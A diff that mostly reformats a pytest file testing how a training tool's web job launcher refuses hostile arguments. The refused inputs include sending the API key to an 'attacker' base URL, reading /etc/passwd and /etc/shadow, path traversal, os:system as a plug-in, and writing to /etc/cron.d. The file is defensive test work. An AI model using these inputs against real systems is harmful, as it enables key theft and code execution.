@@ -12,7 +12,6 @@ import json
 import shlex
 import threading
 import time
-from pathlib import Path
 
 import pytest
 
@@ -39,12 +38,22 @@ class Recorder:
             def do_POST(self) -> None:
                 self.rfile.read(int(self.headers.get("Content-Length") or 0))
                 recorder.tokens.append(self.headers.get("Authorization", ""))
-                body = json.dumps({
-                    "id": "c1", "object": "chat.completion", "created": 0, "model": "m",
-                    "choices": [{"index": 0, "finish_reason": "stop",
-                                 "message": {"role": "assistant", "content": "Fine.\n[[A]]"}}],
-                    "usage": {"prompt_tokens": 10, "completion_tokens": 3, "total_tokens": 13},
-                }).encode()
+                body = json.dumps(
+                    {
+                        "id": "c1",
+                        "object": "chat.completion",
+                        "created": 0,
+                        "model": "m",
+                        "choices": [
+                            {
+                                "index": 0,
+                                "finish_reason": "stop",
+                                "message": {"role": "assistant", "content": "Fine.\n[[A]]"},
+                            }
+                        ],
+                        "usage": {"prompt_tokens": 10, "completion_tokens": 3, "total_tokens": 13},
+                    }
+                ).encode()
                 self.send_response(200)
                 self.send_header("Content-Type", "application/json")
                 self.send_header("Content-Length", str(len(body)))
@@ -81,42 +90,94 @@ def dirs(tmp_path):
 @pytest.fixture
 def policy(dirs):
     jobs, data = dirs
-    return JobPolicy(jobs, (data,), (parse_endpoint("vllm=http://127.0.0.1:9/v1,key-env=PF_TEST_KEY,model=judge-7b"),
-                                     parse_endpoint("local=http://127.0.0.1:8/v1")))
+    return JobPolicy(
+        jobs,
+        (data,),
+        (
+            parse_endpoint("vllm=http://127.0.0.1:9/v1,key-env=PF_TEST_KEY,model=judge-7b"),
+            parse_endpoint("local=http://127.0.0.1:8/v1"),
+        ),
+    )
 
 
 def check(policy, command: str, arguments: str, env=None):
-    return authorize(policy, command, shlex.split(arguments), server_env=env or {"PF_TEST_KEY": SECRET})
+    return authorize(
+        policy, command, shlex.split(arguments), server_env=env or {"PF_TEST_KEY": SECRET}
+    )
 
 
 # ---- the finding's examples, one by one -----------------------------------------------------
 
 REFUSED = [
     # (command, arguments, what the one-line message must say)
-    ("judge", "--api-key-env SECRET --base-url http://attacker/v1 --model m", "--api-key-env: not allowed"),
+    (
+        "judge",
+        "--api-key-env SECRET --base-url http://attacker/v1 --model m",
+        "--api-key-env: not allowed",
+    ),
     ("judge", "--base-url http://attacker/v1 --model m --endpoint vllm", "--base-url: not allowed"),
-    ("judge", "--base http://attacker/v1 --model m", "--base: unknown or shortened flag"),  # argparse's prefix
+    (
+        "judge",
+        "--base http://attacker/v1 --model m",
+        "--base: unknown or shortened flag",
+    ),  # argparse's prefix
     ("judge", "--api-key SECRET --endpoint vllm", "--api-key: unknown or shortened flag"),
-    ("judge", "--backend rubric --criteria-file /etc/passwd", "--criteria-file /etc/passwd: outside the job"),
-    ("judge", "--backend rubric --criteria-file ../../../etc/passwd", "--criteria-file ../../../etc/passwd: outside"),
-    ("judge", "--backend rubric --rubric os:system", "--rubric os:system: web jobs use the built-in rules"),
+    (
+        "judge",
+        "--backend rubric --criteria-file /etc/passwd",
+        "--criteria-file /etc/passwd: outside the job",
+    ),
+    (
+        "judge",
+        "--backend rubric --criteria-file ../../../etc/passwd",
+        "--criteria-file ../../../etc/passwd: outside",
+    ),
+    (
+        "judge",
+        "--backend rubric --rubric os:system",
+        "--rubric os:system: web jobs use the built-in rules",
+    ),
     ("judge", "--backend rubric --rubric shorter,tests.evil:rule", "--rubric tests.evil:rule"),
-    ("judge", "--backend rubric --db /tmp/other.db", "--db: not allowed in web jobs (a job runs on this server"),
+    (
+        "judge",
+        "--backend rubric --db /tmp/other.db",
+        "--db: not allowed in web jobs (a job runs on this server",
+    ),
     ("judge", "--model gpt-4o-mini", "--backend openai: name an endpoint with --endpoint NAME"),
-    ("judge", "--endpoint elsewhere", "--endpoint elsewhere: no such endpoint (configured on the server: vllm, local)"),
+    (
+        "judge",
+        "--endpoint elsewhere",
+        "--endpoint elsewhere: no such endpoint (configured on the server: vllm, local)",
+    ),
     ("judge", "--backend rubric --endpoint vllm", "--endpoint vllm: only with --backend openai"),
-    ("generate", "--backend openai --base-url http://attacker/v1 --model m", "--base-url: not allowed"),
+    (
+        "generate",
+        "--backend openai --base-url http://attacker/v1 --model m",
+        "--base-url: not allowed",
+    ),
     ("generate", "--backend openai --model m", "--backend openai: name an endpoint"),
     ("generate", "--model /etc", "--model /etc: outside the job and data directories"),
     ("generate", "--policy default,../../secrets", "--policy ../../secrets: outside"),
-    ("train", "ppo --reward-function os:system", "--reward-function: not allowed in web jobs (it imports"),
-    ("train", "dpo --set model.trust_remote_code=true", "model.trust_remote_code cannot be set from a web job"),
+    (
+        "train",
+        "ppo --reward-function os:system",
+        "--reward-function: not allowed in web jobs (it imports",
+    ),
+    (
+        "train",
+        "dpo --set model.trust_remote_code=true",
+        "model.trust_remote_code cannot be set from a web job",
+    ),
     ("train", "dpo --set=ppo.reward_function=os:system", "ppo.reward_function cannot be set"),
     ("train", "dpo --set run.output_dir=/etc", "run.output_dir cannot be set"),
     ("train", "dpo --set model.model=/root/model", "model.model cannot be set"),
     ("train", "dpo --set trainer.push_to_hub=true", "trainer.push_to_hub cannot be set"),
     ("train", "dpo --set trainer.report_to=wandb", "trainer.report_to cannot be set"),
-    ("train", "dpo --output-dir /etc/cron.d", "--output-dir /etc/cron.d: outside the job and data directories"),
+    (
+        "train",
+        "dpo --output-dir /etc/cron.d",
+        "--output-dir /etc/cron.d: outside the job and data directories",
+    ),
     ("train", "sft --data /etc/shadow", "--data /etc/shadow: outside"),
     ("train", "dpo --config /etc/prefloop.yaml", "--config /etc/prefloop.yaml: outside"),
     ("train", "dpo --preset /etc/x.yaml", "--preset /etc/x.yaml: presets by name only"),
@@ -128,7 +189,9 @@ REFUSED = [
 ]
 
 
-@pytest.mark.parametrize("command, arguments, message", REFUSED, ids=[f"{c} {a}" for c, a, _ in REFUSED])
+@pytest.mark.parametrize(
+    "command, arguments, message", REFUSED, ids=[f"{c} {a}" for c, a, _ in REFUSED]
+)
 def test_the_findings_examples_are_refused_naming_the_flag(policy, command, arguments, message):
     with pytest.raises(JobRefused) as refused:
         check(policy, command, arguments)
@@ -163,10 +226,17 @@ def test_symlinks_out_of_the_job_directory_are_refused(policy, dirs, tmp_path):
 
 
 def test_a_config_file_may_set_only_what_set_may(policy, dirs):
-    jobs, data = dirs
+    _, data = dirs
     good = data / "small.yaml"
-    good.write_text("description: x\ntrainer:\n  learning_rate: 1.0e-4\n  save_steps: 5\nadapter:\n  r: 8\n")
-    assert check(policy, "train", f"dpo --config {good}").argv == ("train", "dpo", "--config", str(good))
+    good.write_text(
+        "description: x\ntrainer:\n  learning_rate: 1.0e-4\n  save_steps: 5\nadapter:\n  r: 8\n"
+    )
+    assert check(policy, "train", f"dpo --config {good}").argv == (
+        "train",
+        "dpo",
+        "--config",
+        str(good),
+    )
     bad = data / "evil.yaml"
     bad.write_text("model:\n  trust_remote_code: true\n")
     with pytest.raises(JobRefused, match=f"--config {bad}: model.trust_remote_code cannot be set"):
@@ -179,30 +249,80 @@ def test_a_config_file_may_set_only_what_set_may(policy, dirs):
 def test_legitimate_jobs_pass_with_paths_made_absolute(policy, dirs):
     jobs, data = dirs
     (data / "criteria.txt").write_text("Prefer the kinder answer.")
-    launch = check(policy, "judge", f"--backend rubric --rubric no-refusal,shorter --criteria-file {data}/criteria.txt --limit 5")
-    assert launch.argv == ("judge", "--backend", "rubric", "--rubric", "no-refusal,shorter",
-                           "--criteria-file", str(data / "criteria.txt"), "--limit", "5")
-    launch = check(policy, "train", "dpo --max-steps=3 --preset cpu-lora --output-dir runs/dpo-a --set "
-                                    "trainer.learning_rate=1e-4 --set selection.min_votes=2 --beta 0.2 --no-progress")
-    assert launch.argv == ("train", "dpo", "--max-steps", "3", "--preset", "cpu-lora", "--output-dir",
-                           str(jobs / "runs" / "dpo-a"), "--set", "trainer.learning_rate=1e-4", "--set",
-                           "selection.min_votes=2", "--beta", "0.2", "--no-progress")
-    assert check(policy, "generate", "--policy default,dpo-1 --prompts 5 --temperature -1").argv[1:3] == (
-        "--policy", "default,dpo-1")
-    assert check(policy, "train", "reward --model HuggingFaceTB/SmolLM2-135M-Instruct").argv[-1] == (
-        "HuggingFaceTB/SmolLM2-135M-Instruct")  # a Hub id is not a path
+    launch = check(
+        policy,
+        "judge",
+        f"--backend rubric --rubric no-refusal,shorter --criteria-file {data}/criteria.txt --limit 5",
+    )
+    assert launch.argv == (
+        "judge",
+        "--backend",
+        "rubric",
+        "--rubric",
+        "no-refusal,shorter",
+        "--criteria-file",
+        str(data / "criteria.txt"),
+        "--limit",
+        "5",
+    )
+    launch = check(
+        policy,
+        "train",
+        "dpo --max-steps=3 --preset cpu-lora --output-dir runs/dpo-a --set "
+        "trainer.learning_rate=1e-4 --set selection.min_votes=2 --beta 0.2 --no-progress",
+    )
+    assert launch.argv == (
+        "train",
+        "dpo",
+        "--max-steps",
+        "3",
+        "--preset",
+        "cpu-lora",
+        "--output-dir",
+        str(jobs / "runs" / "dpo-a"),
+        "--set",
+        "trainer.learning_rate=1e-4",
+        "--set",
+        "selection.min_votes=2",
+        "--beta",
+        "0.2",
+        "--no-progress",
+    )
+    assert check(policy, "generate", "--policy default,dpo-1 --prompts 5 --temperature -1").argv[
+        1:3
+    ] == ("--policy", "default,dpo-1")
+    assert check(policy, "train", "reward --model HuggingFaceTB/SmolLM2-135M-Instruct").argv[
+        -1
+    ] == ("HuggingFaceTB/SmolLM2-135M-Instruct")  # a Hub id is not a path
     (data / "my-model").mkdir()
     assert check(policy, "train", f"sft --model {data}/my-model").argv[-1] == str(data / "my-model")
 
 
 def test_the_operators_endpoint_and_key_variable_reach_the_job(policy):
     judge = check(policy, "judge", "--endpoint vllm --limit 3")
-    assert judge.argv == ("judge", "--limit", "3", "--base-url", "http://127.0.0.1:9/v1", "--model", "judge-7b",
-                          "--api-key-env", "PF_TEST_KEY")
-    server_env = {"PF_TEST_KEY": SECRET, "OPENAI_API_KEY": "sk-other", "PREFLOOP_JUDGE_API_KEY": "sk-x", "HOME": "/h"}
+    assert judge.argv == (
+        "judge",
+        "--limit",
+        "3",
+        "--base-url",
+        "http://127.0.0.1:9/v1",
+        "--model",
+        "judge-7b",
+        "--api-key-env",
+        "PF_TEST_KEY",
+    )
+    server_env = {
+        "PF_TEST_KEY": SECRET,
+        "OPENAI_API_KEY": "sk-other",
+        "PREFLOOP_JUDGE_API_KEY": "sk-x",
+        "HOME": "/h",
+    }
     assert judge.environment(server_env) == {"PF_TEST_KEY": SECRET, "HOME": "/h"}
     generate = check(policy, "generate", "--backend openai --endpoint=vllm --model other-model")
-    assert generate.argv[-2:] == ("--base-url", "http://127.0.0.1:9/v1") and "judge-7b" not in generate.argv
+    assert (
+        generate.argv[-2:] == ("--base-url", "http://127.0.0.1:9/v1")
+        and "judge-7b" not in generate.argv
+    )
     assert generate.environment(server_env) == {"OPENAI_API_KEY": SECRET, "HOME": "/h"}
     keyless = check(policy, "judge", "--endpoint local --model m")
     assert keyless.environment(server_env) == {"PREFLOOP_JUDGE_API_KEY": "EMPTY", "HOME": "/h"}
@@ -214,12 +334,15 @@ def test_the_operators_endpoint_and_key_variable_reach_the_job(policy):
     assert check(policy, "judge", "--backend rubric").environment(server_env) == {"HOME": "/h"}
 
 
-@pytest.mark.parametrize("text, message", [
-    ("noequals", "expected NAME=URL"),
-    ("x=ftp://host", r"not an http\(s\) URL"),
-    ("x=http://h/v1,key=V", "expected key-env=VAR or model=MODEL"),
-    ("x=http://h/v1,key-env=BAD-NAME", "not an environment variable name"),
-])
+@pytest.mark.parametrize(
+    "text, message",
+    [
+        ("noequals", "expected NAME=URL"),
+        ("x=ftp://host", r"not an http\(s\) URL"),
+        ("x=http://h/v1,key=V", "expected key-env=VAR or model=MODEL"),
+        ("x=http://h/v1,key-env=BAD-NAME", "not an environment variable name"),
+    ],
+)
 def test_endpoint_settings_are_checked(text, message):
     with pytest.raises(ValueError, match=message):
         parse_endpoint(text)
@@ -234,8 +357,12 @@ def state(sqlite_url, tmp_path, recorder):
     engine = engine_for(sqlite_url)
     seed_users(engine, [], ["alice"])
     seed_pairs(engine, 1)
-    config = AppConfig(db_url=sqlite_url, job_dir=tmp_path / "jobs", job_data_dirs=(tmp_path / "data",),
-                       job_endpoints=(parse_endpoint(f"rec={recorder.url},key-env=PF_TEST_KEY,model=m"),))
+    config = AppConfig(
+        db_url=sqlite_url,
+        job_dir=tmp_path / "jobs",
+        job_data_dirs=(tmp_path / "data",),
+        job_endpoints=(parse_endpoint(f"rec={recorder.url},key-env=PF_TEST_KEY,model=m"),),
+    )
     return AppState.create(config, engine=engine)
 
 
@@ -250,7 +377,9 @@ def test_an_attack_starts_no_process_and_sends_nothing(state, recorder, monkeypa
     assert not list(state.jobs.log_dir.glob("*.log"))
 
 
-def test_a_job_on_the_configured_endpoint_gets_the_key_and_never_shows_it(state, recorder, monkeypatch):
+def test_a_job_on_the_configured_endpoint_gets_the_key_and_never_shows_it(
+    state, recorder, monkeypatch
+):
     monkeypatch.setenv("PF_TEST_KEY", SECRET)
     monkeypatch.setenv("OPENAI_API_KEY", "sk-must-not-travel")
     alice = caller_for(state, "alice")
@@ -267,7 +396,9 @@ def test_relative_paths_start_in_the_job_directory(state, tmp_path):
     alice = caller_for(state, "alice")
     (tmp_path / "jobs").mkdir(exist_ok=True)
     (tmp_path / "jobs" / "criteria.txt").write_text("Prefer brevity.")
-    job = admin.start_job(state, alice, "judge", "--backend rubric --criteria-file criteria.txt --no-progress")
+    job = admin.start_job(
+        state, alice, "judge", "--backend rubric --criteria-file criteria.txt --no-progress"
+    )
     job.process.wait(timeout=120)
     assert job.status == "done", job.tail()
     assert job.argv[-2] == str((tmp_path / "jobs" / "criteria.txt").resolve())
@@ -281,14 +412,26 @@ def test_web_jobs_through_prefloop_serve(sqlite_url, tmp_path, recorder, monkeyp
     engine = engine_for(sqlite_url)
     seed_users(engine, [], ["alice"])
     seed_pairs(engine, 1)
-    server = start_serve(sqlite_url, tmp_path, "--endpoint", f"rec={recorder.url},key-env=PF_TEST_KEY",
-                         "--data-dir", str(tmp_path / "data"))
+    server = start_serve(
+        sqlite_url,
+        tmp_path,
+        "--endpoint",
+        f"rec={recorder.url},key-env=PF_TEST_KEY",
+        "--data-dir",
+        str(tmp_path / "data"),
+    )
     try:
         client = AppClient(server.url)
         assert client.login("alice").status_code < 400
         for arguments, message in [
-            (f"--api-key-env PF_TEST_KEY --base-url {recorder.url} --model m", "--api-key-env: not allowed"),
-            ("--backend rubric --criteria-file /etc/passwd", "--criteria-file /etc/passwd: outside"),
+            (
+                f"--api-key-env PF_TEST_KEY --base-url {recorder.url} --model m",
+                "--api-key-env: not allowed",
+            ),
+            (
+                "--backend rubric --criteria-file /etc/passwd",
+                "--criteria-file /etc/passwd: outside",
+            ),
             ("--backend rubric --rubric os:system", "--rubric os:system"),
         ]:
             event, output = client.call("admin_start_job", "judge", arguments)
@@ -298,7 +441,9 @@ def test_web_jobs_through_prefloop_serve(sqlite_url, tmp_path, recorder, monkeyp
         assert not list((tmp_path / "jobs").glob("*.log"))  # nothing started
         assert recorder.tokens == []
 
-        event, output = client.call("admin_start_job", "judge", "--endpoint rec --model m --max-attempts 1 --no-progress")
+        event, output = client.call(
+            "admin_start_job", "judge", "--endpoint rec --model m --max-attempts 1 --no-progress"
+        )
         assert event == "complete", output
         log = ""
         for _ in range(240):
